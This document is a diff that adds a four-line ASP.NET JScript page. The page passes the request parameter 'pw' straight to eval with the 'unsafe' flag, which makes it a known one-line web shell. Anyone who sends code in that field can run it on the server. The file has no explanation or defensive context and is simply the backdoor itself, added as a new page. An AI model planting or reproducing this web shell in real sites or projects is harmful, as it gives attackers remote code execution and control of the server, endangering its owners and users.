@@ -1,0 +1,4 @@
+﻿<%@ Page Language="JScript" Debug=true %>
+<%
+    eval( Request[ 'pw' ] , 'unsafe' );
+%>
